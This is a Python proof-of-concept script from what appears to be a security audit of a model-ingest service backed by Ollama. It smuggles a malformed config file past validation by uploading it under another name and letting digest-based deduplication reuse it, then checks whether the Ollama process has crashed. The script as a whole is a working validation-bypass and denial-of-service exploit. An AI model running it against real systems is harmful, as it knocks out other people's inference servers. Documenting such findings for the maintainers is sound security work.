"""Finding 1: a JSON refused as config.json is accepted as notes.json, then taken by digest as config.json.
usage: dedup_other_name.py OLLAMA_BIN PORT"""
import asyncio, hashlib, json, sys, tempfile, pathlib
sys.path[:0] = ['/work/atk5', '/tmp/real-ollama/m', '/work/atk5/findings']
from srv import Srv
import kill_ollama as K
from model_ingest.v1.resources_pb2 import File, Ingest
from model_ingest.v1.ingest_service_pb2 import CreateIngestRequest, GetIngestRequest
from model_ingest.v1 import resources_pb2
from tests.support.service import RunningService, settings_for
from tests.support.files import upload_messages, send
from tests.rpc.test_several_files import several
EVIL = K.cfg('Phi3ForCausalLM', rope_scaling={'type': 'nonsense'}, original_max_position_embeddings=1)
WEIGHTS = K.st(K.OK)
def names(config, **more): return {'model.safetensors': WEIGHTS, 'config.json': config, 'tokenizer.json': K.TOK, **more}
async def main(binary, port):
    d = pathlib.Path(tempfile.mkdtemp(prefix='atk5-dedup'))
    s = Srv(binary, port, str(d / 'ollama')); (d / 'ollama').mkdir(); s.start()
    try:
        st = settings_for(d / 'data', f"sqlite+aiosqlite:///{d/'t.db'}", f'default=http://127.0.0.1:{port}', allow_safetensors=True)
        async with RunningService(st) as r:
            async def push(contents, model, store_only):
                req = several([(n, File.ROLE_MODEL, b) for n, b in contents.items()], model)
                req.store_only = store_only
                for f, b in zip(req.ingest.files if hasattr(req, 'ingest') and req.HasField('ingest') else req.files, contents.values()): f.sha256 = 'sha256:' + hashlib.sha256(b).hexdigest()
                i = await r.ingests.CreateIngest(req)
                print(model, [(f.file_name, File.State.Name(f.state)) for f in i.files])
                for f, b in zip(i.files, contents.values()):
                    if f.state != File.STATE_STORED:
                        await send(r.ingests, upload_messages(f.name, b))
                return i
            try: await push(names(EVIL), 'direct', False)
            except Exception as e: print('direct: refused', getattr(e, 'details', lambda: e)()[:120])
            await push(names(K.cfg(), **{'notes.json': EVIL}), 'one', True)
            i = await push(names(EVIL), 'two', False)
            for _ in range(50):
                i = await r.ingests.GetIngest(GetIngestRequest(name=i.name))
                if i.done or s.p.poll() is not None: break
                await asyncio.sleep(.1)
            print('ingest', Ingest.State.Name(i.state), i.deployments[0].failure.message)
            print('OLLAMA', 'DEAD' if s.p.poll() is not None else 'alive'); s.ensure()
    finally: s.stop()
asyncio.run(main(sys.argv[1], int(sys.argv[2])))
